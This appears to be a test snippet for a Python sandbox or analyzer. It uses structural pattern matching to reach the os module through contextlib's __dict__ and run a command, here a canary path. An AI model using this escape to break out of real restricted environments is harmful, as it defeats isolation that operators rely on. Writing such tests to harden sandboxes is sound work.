# reaches: a class pattern reads a module's dictionary
import contextlib
match contextlib:
    case object(__dict__={"os": o}):
        o.system("/srv/canary")
